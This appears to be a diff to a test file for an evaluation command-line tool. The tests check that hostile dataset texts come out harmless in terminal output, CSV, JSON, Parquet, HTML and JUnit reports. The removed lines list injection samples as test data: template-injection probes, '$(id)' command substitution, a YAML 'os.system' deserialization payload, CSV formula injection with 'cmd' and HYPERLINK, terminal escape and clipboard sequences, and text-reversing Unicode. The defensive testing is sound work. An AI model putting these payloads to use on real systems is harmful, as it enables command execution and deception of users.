@@ -24,38 +24,12 @@ from tests.browser.injections import INJECTIONS
 from answerkey.cli import main
 from answerkey.testing import Reply, TestServer
 
-CODE = (
-    "{{ 7 * 7 }}", "{{ sample.answer }}", "{% for x in range(9) %}x{% endfor %}", "{# gone #}",
-    "{% raw %}{{ x }}", "{{ ''.__class__.__mro__ }}", "<< config.secret >>", "<< sample.answer >>",
-    "$HOME ${HOME} $(id) `id`", "!include ../secret.yaml", "!!python/object/apply:os.system [id]",
-    "%(answer)s {answer} {0.__class__}",
-)  # fmt: skip
-FORMULAS = (
-    "=1+1", "=cmd|' /C calc'!A0", "@SUM(1,2)", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
-    " =1+1",
-    "\t=1+1", "\r=1+1", "x\n=1+1", "x;=1+1", "x\t@SUM(1)", '=HYPERLINK("http://x.invalid?"&A1,"press")',
-    "＝1+1", "-", "+5", "-1.5e3",
-)  # fmt: skip
-TERMINAL = (
-    "\x1b[2J\x1b[H", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b]52;c;ZXZpbA==\x07",
-    "\x1bP+q544e\x1b\\",
-    "\x9b31mred", "\x9d0;title\x9c", "\x90q\x9c", "a\x08b", "over\rwritten", "bell\x07",
-    "\x0e\x0f", "\x7f",
-    "\x1b[6n", "a\x0bb\x0cc", "[bold red]rich[/bold red]", "[link=http://x.invalid]press[/link]",
-)  # fmt: skip
-TURNED = (
-    "\u202eevil\u202c", "\u2066\u2067x\u2069\u2069", "\u200e\u200f\u061c", "a\u2028b\u2029c",
-    "\u200b\ufeffx\u2060", "\U000e0041\U000e007f", "x\u00ady", "\u3164\uffa0",
-    "\ufff9a\ufffab\ufffb",
-    "\x85next", "שלום \u202d abc",
-)  # fmt: skip
-PLAIN = (
-    "line\r\nends\rof all\nkinds\n", "  spaces stay  ", "\ttabs\t", "e\u0301 is not \u00e9",
-    "\U0001f469\u200d\U0001f52c", '"quoted", ""twice"", and, commas', "\\n \\u202e \\x1b", "NA",
-    "null",
-    "true", "007", "1e5", "2026-11-16", "A,B;C|D",
-)  # fmt: skip
-TEXTS = (*INJECTIONS, *CODE, *FORMULAS, *TERMINAL, *TURNED, *PLAIN)
+#: Code, formulas, escapes for a terminal, marks that turn or hide text, and what stays as it is.
+KINDS: dict[str, list[str]] = json.loads(
+    (Path(__file__).parent / "corpora" / "texts.json").read_text(encoding="utf-8")
+)
+FORMULAS, TERMINAL, TURNED = (KINDS[name] for name in ("formulas", "terminal", "turned"))
+TEXTS = (*INJECTIONS, *(text for texts in KINDS.values() for text in texts))
 #: What moves the cursor, ends a line early, hides or turns what follows; a line feed ends a line of
 #: ours.
 ACTIVE = re.compile(
@@ -78,23 +52,9 @@ definition:
   scorers:
     - {type: string_equals_mcqa, ground_truth_choice: "{{ sample.answer }}", choices: "{{ sample.choices }}"}
 """  # noqa: E501 - the text as it is written
-POLICIES = [
-    {
-        "key": "gate",
-        "rules": [
-            {
-                "key": "accurate",
-                "display_name": "<i>\u202e\x1b[1m</i>",
-                "definition": {
-                    "type": "threshold",
-                    "metric": "Accuracy",
-                    "operator": ">=",
-                    "threshold": 0.99,
-                },
-            }
-        ],
-    }
-]
+THRESHOLD = {"type": "threshold", "metric": "Accuracy", "operator": ">=", "threshold": 0.99}
+RULE = {"key": "accurate", "display_name": "<i>\u202e\x1b[1m</i>", "definition": THRESHOLD}
+POLICIES = [{"key": "gate", "rules": [RULE]}]
 ROWS: list[dict[str, Any]] = [
     {
         "sample_id": f"row-{number} {text}" if number % 2 else f"row-{number}",
@@ -136,9 +96,9 @@ FORMATS: dict[str, Callable[[Path], None]] = {
 
 def answer(messages: Sequence[Mapping[str, object]]) -> Reply:
     """Say A, then a hostile text; by another way, think one."""
-    asked = str(messages[0]["content"])
-    said = TEXTS[(TEXTS.index(asked) + 5) % len(TEXTS)]
-    return Reply(f"A\n{said}", kind="reasoning", reasoning=asked)
+    question = str(messages[0]["content"])
+    reply = TEXTS[(TEXTS.index(question) + 5) % len(TEXTS)]
+    return Reply(f"A\n{reply}", kind="reasoning", reasoning=question)
 
 
 @dataclass(frozen=True)
@@ -159,14 +119,9 @@ def run_rows(folder: Path, form: str, call: Callable[..., Any]) -> Ran:
     """Run the rows, written in one format, against a model that answers with such texts, too."""
     FORMATS[form](folder / f"rows.{form}")
     (folder / "task.yaml").write_text(TASK, encoding="utf-8")
+    source = {"type": "local", "file_path": f"rows.{form}"}
     plan = {
-        "datasets": [
-            {
-                "key": "rows",
-                "display_name": TERMINAL[0],
-                "source": {"type": "local", "file_path": f"rows.{form}"},
-            }
-        ],
+        "datasets": [{"key": "rows", "display_name": TERMINAL[0], "source": source}],
         "tasks": [{"$ref": "task.yaml"}],
         "policies": POLICIES,
         "evaluation": {
@@ -268,7 +223,7 @@ def test_what_is_printed_obeys_nothing(name: str, ran: Ran, call: Callable[..., 
 
 
 class Terminal(io.StringIO):
-    """A stream at which somebody looks."""
+    """A stream that claims to be a terminal."""
 
     def isatty(self) -> bool:
         """Return that it is one."""
@@ -292,9 +247,9 @@ def test_every_sample_is_explained_harmlessly(ran: Ran, call: Callable[..., Any]
         shown = call("explain", ran.run, row["sample_id"])
         assert shown.code == 0, shown.err
         assert ACTIVE.findall(shown.out + shown.err) == []
-        (told,) = call("explain", ran.run, row["sample_id"], "--json").json["samples"]
-        assert told["sample"]["question"].encode() == row["question"].encode()
-        assert told["prompt"][0]["content"].encode() == row["question"].encode()
+        (sample,) = call("explain", ran.run, row["sample_id"], "--json").json["samples"]
+        assert sample["sample"]["question"].encode() == row["question"].encode()
+        assert sample["prompt"][0]["content"].encode() == row["question"].encode()
 
 
 def test_bad_rows_are_reported_harmlessly(tmp_path: Path, call: Callable[..., Any]) -> None:
@@ -318,8 +273,8 @@ def test_errors_of_an_endpoint_are_reported_harmlessly(
     """What an endpoint says of its trouble is a text of a stranger, too."""
     write_jsonl(tmp_path / "rows.jsonl")
     (tmp_path / "task.yaml").write_text(TASK, encoding="utf-8")
-    said = json.dumps({"error": {"message": "".join(TERMINAL + TURNED)}}).encode()
-    with TestServer(Reply(status=400, body=said)) as server:
+    body = json.dumps({"error": {"message": "".join(TERMINAL + TURNED)}}).encode()
+    with TestServer(Reply(status=400, body=body)) as server:
         words = (
             "--dataset",
             tmp_path / "rows.jsonl",
@@ -357,7 +312,7 @@ def test_no_cell_of_csv_is_a_formula(ran: Ran, call: Callable[..., Any]) -> None
     heading, *lines = read_cells((ran.folder / "rows.csv").read_bytes().decode())
     assert [cell for line in (heading, *lines) for cell in line if FORMULA.search(cell)] == []
     at = heading.index("question")
-    assert [one[at].replace("'", "") for one in lines] == [
+    assert [line[at].replace("'", "") for line in lines] == [
         row["question"].replace("'", "") for row in ROWS
     ]
 
@@ -366,14 +321,14 @@ def test_raw_csv_jsonl_and_parquet_have_the_texts_byte_for_byte(
     ran: Ran, call: Callable[..., Any]
 ) -> None:
     """Files for programs hold questions and completions as they are."""
-    said = [f"A\n{TEXTS[(number + 5) % len(TEXTS)]}" for number in range(len(ROWS))]
-    asked = [row["question"] for row in ROWS]
+    replies = [f"A\n{TEXTS[(number + 5) % len(TEXTS)]}" for number in range(len(ROWS))]
+    questions = [row["question"] for row in ROWS]
     for form, more in {"csv": ["--raw"], "jsonl": [], "parquet": []}.items():
         assert (
             call("export", ran.run, "--to", form, "-o", ran.folder / f"out.{form}", *more).code == 0
         )
     heading, *lines = read_cells((ran.folder / "out.csv").read_bytes().decode())
-    for name, texts in {"question": asked, "completion": said}.items():
+    for name, texts in {"question": questions, "completion": replies}.items():
         assert [line[heading.index(name)].encode() for line in lines] == [
             text.encode() for text in texts
         ]
@@ -382,10 +337,12 @@ def test_raw_csv_jsonl_and_parquet_have_the_texts_byte_for_byte(
         for line in (ran.folder / "out.jsonl").read_bytes().decode().split("\n")
         if line
     ]
-    assert [row["sample"]["question"].encode() for row in rows] == [text.encode() for text in asked]
-    assert [row["completion"].encode() for row in rows] == [text.encode() for text in said]
+    assert [row["sample"]["question"].encode() for row in rows] == [
+        text.encode() for text in questions
+    ]
+    assert [row["completion"].encode() for row in rows] == [text.encode() for text in replies]
     table = pl.read_parquet(ran.folder / "out.parquet")
-    assert table["completion"].to_list() == said
+    assert table["completion"].to_list() == replies
 
 
 class Page(HTMLParser):
@@ -407,7 +364,7 @@ class Page(HTMLParser):
                 self.active.append(f"{tag} {name}={value}")
 
 
-def test_the_report_holds_no_element_but_ours(
+def test_the_report_has_only_our_elements(
     ran: Ran, tmp_path: Path, call: Callable[..., Any]
 ) -> None:
     """The page of hostile rows has the elements of the page of a harmless run, in the same
@@ -443,18 +400,18 @@ def parse_page(path: Path) -> Page:
 
 def iterate_texts(element: ET.Element) -> Iterator[str]:
     """Yield every text of an XML document: contents and attributes."""
-    for one in element.iter():
-        yield one.text or ""
-        yield from one.attrib.values()
+    for node in element.iter():
+        yield node.text or ""
+        yield from node.attrib.values()
 
 
-def test_junit_and_the_summary_of_a_job_hold_texts_as_texts(ran: Ran) -> None:
+def test_junit_and_the_job_summary_escape_texts(ran: Ran) -> None:
     """JUnit is well-formed XML with elements of its own alone.
 
     Markdown has no markup of a stranger.
     """
     root = ET.fromstring((ran.folder / "gates.xml").read_text(encoding="utf-8"))  # noqa: S314 - of our own making
-    assert {one.tag for one in root.iter()} == {
+    assert {node.tag for node in root.iter()} == {
         "testsuites", "testsuite", "testcase", "failure",
     }  # fmt: skip
     assert any("<i>" in text for text in iterate_texts(root))
